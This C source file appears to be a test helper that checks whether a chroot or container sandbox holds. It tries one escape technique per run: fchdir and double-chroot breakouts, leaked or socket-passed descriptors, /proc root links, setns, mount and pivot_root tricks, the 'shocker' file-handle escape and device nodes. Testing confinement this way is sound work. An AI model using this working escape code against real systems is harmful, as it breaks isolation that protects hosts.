/* SPDX-License-Identifier: ISC */
/*
 * escape: ways out of a root directory, one a run. Runs as root inside; static.
 *
 * *       escape WAY MARKER SECRET [ARG]
 *
 * MARKER is the absolute path of a file outside that holds SECRET; the way has worked if that text is read.
 * Exit status 0: out. 1: held. 2: a way that isn't known, or its preparation failed. What happened is on
 * stdout. `escape serve NAME` is the accomplice outside: it hands its root directory to whoever connects to
 * the abstract socket NAME. `escape pivot-here DIR WAY...` makes DIR the root by bind and pivot_root, but
 * drops nothing: the place where ways are shown to work that a chroot alone would stop.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *marker, *secret, *arg;

static int held(const char *what)
{
	printf("held: %s: %s\n", what, strerror(errno));
	return 1;
}

/* Reads path below dir_fd. */
static int has_secret(int dir_fd, const char *path)
{
	char text[256];
	int fd = openat(dir_fd, path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	if (n < 0)
		return 0;
	text[n] = '\0';
	return strncmp(text, secret, strlen(secret)) == 0;
}

static int out(const char *how)
{
	printf("out: %s\n", how);
	return 0;
}

/* Up from the working directory as far as it goes. */
static int climb(const char *how)
{
	for (int i = 0; i < 64; i++) {
		if (has_secret(AT_FDCWD, marker + 1))
			return out(how);
		if (chdir("..") < 0)
			return held("chdir ..");
	}
	errno = ENOENT;
	return held("the top is not outside");
}

static void want_dir(const char *path)
{
	if (mkdir(path, 0755) < 0 && errno != EEXIST) {
		printf("can't mkdir %s: %s\n", path, strerror(errno));
		exit(2);
	}
}

/* ---- chroot and descriptors ---- */

static int way_chroot(void)
{
	want_dir("/escape.d");
	if (chroot("/escape.d") < 0)
		return held("chroot");
	return climb("chroot into a subdirectory, the working directory stays above");
}

static int way_fchdir(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	want_dir("/escape.d");
	if (chdir("/escape.d") < 0 || chroot("/escape.d") < 0)
		return held("chroot");
	if (fchdir(fd) < 0)
		return held("fchdir");
	return climb("fchdir to a directory opened before");
}

static int way_double_chroot(void)
{
	want_dir("/escape.d");
	want_dir("/escape.d/b");
	if (chroot("/escape.d") < 0 || chdir("/b") < 0 || chroot("/b") < 0 || chroot(".") < 0)
		return held("chroot");
	if (chdir("..") < 0)
		return held("chdir ..");
	want_dir("c");
	if (chroot("c") < 0)
		return held("third chroot");
	return climb("chroot over and over");
}

/* The caller left a descriptor of a directory outside open. */
static int way_leaked_fd(void)
{
	for (int fd = 3; fd < 64; fd++)
		if (fchdir(fd) == 0 && climb("a descriptor that was left open") == 0)
			return 0;
	errno = EBADF;
	return held("no descriptor 3..63 leads out");
}

static int way_unix_fd(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	char c, control[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &c, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), fd;

	strncpy(a.sun_path + 1, arg, sizeof(a.sun_path) - 2);
	if (connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(arg))) < 0)
		return held("connect to the accomplice's abstract socket");
	if (recvmsg(s, &m, 0) < 1 || !CMSG_FIRSTHDR(&m))
		return held("recvmsg");
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(fd));
	if (fchdir(fd) < 0)
		return held("fchdir");
	return climb("a directory handed over by a process outside");
}

/* ARG: a directory; someone outside renames it out of the root once ARG/ready is there, and then makes
 * /moved. */
static int way_moved(void)
{
	if (chdir(arg) < 0 || close(open("ready", O_CREAT | O_WRONLY, 0644)) < 0) {
		printf("can't prepare %s\n", arg);
		return 2;
	}
	for (int i = 0; i < 500 && access("/moved", F_OK) < 0; i++)
		usleep(20000);
	return climb("the working directory was moved out of the root");
}

/* ---- /proc ---- */

static int mount_proc(void)
{
	want_dir("/escape.proc");
	return mount("proc", "/escape.proc", "proc", 0, NULL);
}

/* ARG: the pid of a process outside, as the host counts. */
static int way_proc_root(void)
{
	const char *const names[] = { "root", "cwd" }, *const procs[] = { "/escape.proc", "/proc" };
	const char *const pids[] = { "1", arg };
	char path[512];

	mount_proc();
	for (int i = 0; i < 8; i++) {
		snprintf(path, sizeof(path), "%s/%s/%s", procs[i & 1], pids[i >> 1 & 1], names[i >> 2]);
		int fd = open(path, O_RDONLY | O_DIRECTORY);
		if (fd >= 0 && fchdir(fd) == 0 && climb(path) == 0)
			return 0;
	}
	return held("/proc/PID/root and cwd");
}

static int way_ptrace(void)
{
	pid_t pid = atoi(arg);

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return held("ptrace a process outside");
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return out("ptrace of a process outside");
}

static int way_kill(void)
{
	if (kill(atoi(arg), SIGWINCH) < 0)
		return held("kill a process outside");
	return out("a signal to a process outside");
}

/* ARG: as for way_proc_root. */
static int way_setns(void)
{
	const char *const procs[] = { "/escape.proc", "/proc" }, *const pids[] = { "1", "self", arg };
	char path[512];

	mount_proc();
	for (int i = 0; i < 6; i++) {
		snprintf(path, sizeof(path), "%s/%s/ns/mnt", procs[i & 1], pids[i >> 1]);
		int fd = open(path, O_RDONLY);
		if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0 && climb(path) == 0)
			return 0;
	}
	return held("setns to a mount namespace");
}

/* ---- mounts: whoever can change them is as good as out ---- */

static int way_umount(void)
{
	return umount2("/", MNT_DETACH) < 0 ? held("umount -l /") : out("umount -l /");
}

static int way_move_mount(void)
{
	want_dir("/escape.d");
	if (mount("/escape.d", "/escape.d", NULL, MS_BIND, NULL) < 0)
		return held("bind a directory on itself");
	if (mount("/escape.d", "/", NULL, MS_MOVE, NULL) < 0)
		return held("move a mount over /");
	return out("a mount moved over /");
}

static int way_pivot_root(void)
{
	want_dir("/escape.d");
	if (mount("/escape.d", "/escape.d", NULL, MS_BIND, NULL) < 0)
		return held("bind a directory on itself");
	want_dir("/escape.d/old");
	if (syscall(SYS_pivot_root, "/escape.d", "/escape.d/old") < 0)
		return held("pivot_root");
	return out("a second pivot_root");
}

static int way_open_tree(void)
{
	if (syscall(428 /* open_tree */, AT_FDCWD, "/..", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC) < 0)
		return held("open_tree");
	return out("a copy of a mount");
}

static int way_fsopen(void)
{
	if (syscall(430 /* fsopen */, "tmpfs", 0) < 0)
		return held("fsopen");
	return out("a filesystem of its own");
}

/* ARG: making one is enough. Else: making one and then getting out of it. */
static int way_nested_userns(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return held("unshare a user and a mount namespace");
	if (arg)
		return out("a nested user namespace");
	if (umount2("/", MNT_DETACH) == 0 && chdir("/..") == 0 && climb("umount -l / in a nested namespace") == 0)
		return 0;
	if (way_move_mount() == 0 && chroot("/..") == 0 && climb("a mount moved over / in a nested namespace") == 0)
		return 0;
	return held("in a nested user namespace");
}

/* ---- handles and devices ---- */

/* "shocker": the inode number of a filesystem's root is known, so its handle is too. ARG: that number. */
static int way_handle(void)
{
	struct { struct file_handle head; unsigned ino, generation; } h = {
		.head = { .handle_bytes = 8, .handle_type = 1 }, .ino = arg ? (unsigned)atoi(arg) : 2,
	};
	int fs = open("/", O_RDONLY), fd;

	fd = open_by_handle_at(fs, &h.head, O_RDONLY);
	if (fd < 0)
		return held("open_by_handle_at");
	return fchdir(fd) < 0 ? held("fchdir") : climb("a file handle");
}

/* The kernel's log by a node of our own: c 1 11. It is read where a node can be made and opened. */
static int way_mknod(void)
{
	const char *const places[] = { "/escape.node", "/dev/escape.node", "/tmp/escape.node", "/run/escape.node" };
	char line[512];

	for (int i = 0; i < 4; i++) {
		unlink(places[i]);
		if (mknod(places[i], S_IFCHR | 0600, makedev(1, 11)) < 0)
			continue;
		int fd = open(places[i], O_RDONLY | O_NONBLOCK);
		unlink(places[i]);
		if (fd >= 0 && read(fd, line, sizeof(line)) > 0)
			return out("a device node made inside");
	}
	return held("mknod a device and read it");
}

/* ARG: a node that someone outside had put there before. */
static int way_old_node(void)
{
	char line[512];
	int fd = open(arg, O_RDONLY | O_NONBLOCK);

	if (fd < 0 || read(fd, line, sizeof(line)) <= 0)
		return held("read a device node of the root");
	return out("a device node of the root");
}

/* ---- the places where they are tried ---- */

static const struct { const char *name; int (*run)(void); } ways[] = {
	{ "chroot", way_chroot }, { "fchdir", way_fchdir }, { "double-chroot", way_double_chroot },
	{ "leaked-fd", way_leaked_fd }, { "unix-fd", way_unix_fd }, { "moved", way_moved },
	{ "proc-root", way_proc_root }, { "ptrace", way_ptrace }, { "kill", way_kill }, { "setns", way_setns },
	{ "umount", way_umount },
	{ "move-mount", way_move_mount }, { "pivot-root", way_pivot_root }, { "open-tree", way_open_tree },
	{ "fsopen", way_fsopen },
	{ "nested-userns", way_nested_userns }, { "handle", way_handle }, { "mknod", way_mknod },
	{ "old-node", way_old_node },
};

static int run_way(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	marker = argv[1];
	secret = argv[2];
	arg = argv[3];
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		if (strcmp(argv[0], ways[i].name) == 0)
			return ways[i].run();
	return 2;
}

static int serve(const char *name)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	char c = 'x', control[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec iov = { &c, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), root = open("/", O_RDONLY | O_DIRECTORY);

	strncpy(a.sun_path + 1, name, sizeof(a.sun_path) - 2);
	if (bind(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) < 0 ||
	    listen(s, 8) < 0)
		return 2;
	CMSG_FIRSTHDR(&m)->cmsg_level = SOL_SOCKET;
	CMSG_FIRSTHDR(&m)->cmsg_type = SCM_RIGHTS;
	CMSG_FIRSTHDR(&m)->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(CMSG_FIRSTHDR(&m)), &root, sizeof(root));
	puts("serving");
	fflush(stdout);
	alarm(120);
	for (;;) {
		int fd = accept(s, NULL, NULL);
		if (fd >= 0) {
			sendmsg(fd, &m, MSG_NOSIGNAL);
			close(fd);
		}
	}
}

static int pivot_here(int argc, char **argv)
{
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
	    mount(argv[0], argv[0], NULL, MS_BIND, NULL) < 0 || chdir(argv[0]) < 0)
		goto failed;
	if (syscall(SYS_pivot_root, ".", ".") == 0) {
		if (umount2(".", MNT_DETACH) < 0)
			goto failed;
	} else if (errno != EINVAL || mount(".", "/", NULL, MS_MOVE, NULL) < 0 || chroot(".") < 0) {
		goto failed;            /* EINVAL: "/" is an initramfs */
	}
	if (chdir("/") == 0)
		return run_way(argc - 1, argv + 1);
failed:
	printf("can't pivot: %s\n", strerror(errno));
	return 2;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "serve") == 0)
		return serve(argv[2]);
	if (argc > 3 && strcmp(argv[1], "pivot-here") == 0)
		return pivot_here(argc - 2, argv + 2);
	return argc > 1 ? run_way(argc - 1, argv + 1) : 2;
}
